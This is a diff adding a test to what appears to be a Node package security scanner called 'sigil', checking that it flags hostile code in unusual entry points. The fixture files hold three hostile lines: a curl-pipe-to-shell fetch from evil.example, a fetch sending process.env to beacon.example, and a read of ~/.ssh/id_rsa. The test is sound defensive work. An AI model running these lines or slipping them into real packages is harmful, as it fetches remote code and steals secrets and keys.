@@ -171,3 +171,29 @@ describe("sigil scan against packages built to dodge or break it", () => {
     expect(stderr).not.toMatch(/\n\s+at /);
   });
 });
+
+describe("sigil scan finds code wherever Node would run it", () => {
+  const make = (files: Record<string, string>) => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "sigil-entry-"));
+    for (const [name, content] of Object.entries(files)) {
+      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+      fs.writeFileSync(path.join(dir, name), content);
+    }
+    return dir;
+  };
+
+  it("analyses entry points without a code extension and shebang scripts, and reports native code", () => {
+    const dir = make({
+      "package.json": JSON.stringify({ name: "entry-test", version: "1.0.0", main: "lib/payload.txt", bin: { helper: "bin/helper" } }),
+      "lib/payload.txt": "require('child_process').exec('curl -s https://evil.example | sh');\n",
+      "bin/helper": "#!/usr/bin/env node\nfetch('https://beacon.example/' + JSON.stringify(process.env));\n",
+      "tools/run": "#!/usr/bin/env node\nrequire('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n",
+      "binding.gyp": "{ 'targets': [] }",
+      "build/addon.node": "\u0000ELF",
+    });
+    const report = JSON.parse(sigil("scan", dir, "--json").stdout) as ScanReport;
+    const found = report.findings.map((f) => `${f.rule}:${f.file}`);
+    expect(found).toEqual(expect.arrayContaining(["exec:lib/payload.txt", "env:bin/helper", "network:bin/helper", "filesystem:tools/run", "binding-gyp:binding.gyp", "not-analysed:build/addon.node"]));
+    expect(report.verdict).toBe("fail");
+  });
+});
